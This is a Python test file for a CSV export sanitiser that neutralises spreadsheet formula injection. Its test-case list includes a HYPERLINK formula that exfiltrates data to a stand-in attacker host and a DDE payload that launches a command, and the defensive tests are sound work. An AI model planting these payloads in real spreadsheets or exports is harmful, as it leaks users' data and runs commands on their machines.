"""Tables for spreadsheets: every value comes back, and none is a formula."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from zusammenmehr.report.csv_table import csv_table, harmless
from zusammenmehr.report.sanitise import visible

_DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?x="&A1)',
    "=cmd|'/C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹢1",
    "﹦1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "'=1",
    '"=1',
    "„=1“",
    ' "  =1',
]


@pytest.mark.parametrize("cell", _DANGEROUS)
def test_what_could_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert harmless(cell) == f"'{visible(cell)}"


@pytest.mark.parametrize("cell", ["", "Celle", "Hann. Münden", "Sprache = Brücke", "a@b", "03358017", "Rotenburg-Süd"])
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.text())
def test_no_cell_begins_like_a_formula_whatever_it_says(text: str) -> None:
    shown = unicodedata.normalize("NFKC", harmless(text))

    assert not shown.lstrip(' "„“”\u00a0').startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.lists(st.lists(st.text() | st.integers(), min_size=2, max_size=2)))
def test_a_reader_finds_every_row_and_cell(rows: list[list[str | int]]) -> None:
    text = csv_table(["a", "b"], rows)

    assert text.count("\n") == text.count("\r\n") == len(rows) + 1
    found = list(csv.reader(io.StringIO(text, newline="")))
    assert found == [["a", "b"], *([str(harmless(c) if isinstance(c, str) else c) for c in row] for row in rows)]
    assert text.startswith('"a","b"\r\n')
